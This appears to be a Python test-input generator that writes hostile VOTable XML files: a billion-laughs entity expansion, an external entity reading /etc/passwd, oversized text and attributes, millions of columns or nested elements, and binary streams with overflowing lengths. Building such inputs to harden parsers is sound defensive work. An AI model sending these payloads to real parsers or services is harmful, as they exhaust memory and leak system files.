"""Documents that mean no good: hostile.py NAME writes that one to standard output."""
import base64
import struct
import sys

TABLE = (
    '<VOTABLE version="1.4"><RESOURCE type="results"><TABLE>'
    '<FIELD name="a" datatype="char" arraysize="*"/>'
    "<DATA><TABLEDATA><TR><TD>@</TD></TR></TABLEDATA></DATA></TABLE></RESOURCE></VOTABLE>"
)
MIB = "x" * (1 << 20)


def laughs():
    names = "abcdefghij"
    yield '<?xml version="1.0"?>\n<!DOCTYPE VOTABLE [<!ENTITY a "ha">'
    for before, name in zip(names, names[1:]):
        yield f'<!ENTITY {name} "{f"&{before};" * 10}">'
    yield "]>" + TABLE.replace("@", "&j;")


def file_of_the_reader():
    yield '<?xml version="1.0"?>\n<!DOCTYPE VOTABLE [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    yield TABLE.replace("@", "&x;")


def long(around, size=40):
    before, after = around.split("@")
    yield before
    for _ in range(size):
        yield MIB
    yield after


def columns():
    yield "<VOTABLE><RESOURCE><TABLE>"
    for i in range(1_000_000):
        yield f'<FIELD name="{i}" datatype="int"/>'
    yield "<DATA><TABLEDATA/></DATA></TABLE></RESOURCE></VOTABLE>"


def parameters():
    yield "<VOTABLE><RESOURCE>"
    for i in range(1_000_000):
        yield f'<PARAM name="p{i}" datatype="int" value="1"/>'
    yield TABLE.replace('<VOTABLE version="1.4"><RESOURCE type="results">', "").replace("@", "x")


def cells():
    before, after = TABLE.split("<TD>@</TD>")
    yield before
    for _ in range(1_000_000):
        yield "<TD>1</TD>"
    yield after


def deep():
    yield "<VOTABLE>" + "<RESOURCE>" * 1_000_000


def binary(payload, datatype, arraysize):
    data = base64.b64encode(payload + b"x" * 40).decode()
    yield f'<VOTABLE><RESOURCE><TABLE><FIELD name="a" datatype="{datatype}" arraysize="{arraysize}"/>'
    yield f'<DATA><BINARY><STREAM encoding="base64">{data}</STREAM></BINARY></DATA>'
    yield "</TABLE></RESOURCE></VOTABLE>"


DOCUMENTS = {
    "laughs": laughs,
    "entity": file_of_the_reader,
    "text": lambda: long(TABLE),
    "description": lambda: long(TABLE.replace("<TABLE>", "<TABLE><DESCRIPTION>@</DESCRIPTION>", 1).replace("<TD>@", "<TD>")),
    "attribute": lambda: long(TABLE.replace('name="a"', 'name="@"').replace("<TD>@", "<TD>")),
    "comment": lambda: long(TABLE.replace("<TABLE>", "<!--@--><TABLE>", 1).replace("<TD>@", "<TD>")),
    "columns": columns,
    "parameters": parameters,
    "cells": cells,
    "deep": deep,
    "negative": lambda: binary(struct.pack(">i", -1), "double", "*"),
    "huge": lambda: binary(struct.pack(">i", 2**31 - 1), "char", "*"),
    "minus": lambda: binary(b"", "double", "-5"),
    "overflow": lambda: binary(b"", "double", "4294967296x4294967296"),
    "bits": lambda: binary(b"", "bit", "2147483647"),
    "cut": lambda: [TABLE.replace("@", MIB)[:-100]],
}


def main():
    for piece in DOCUMENTS[sys.argv[1]]():
        sys.stdout.write(piece)


main()
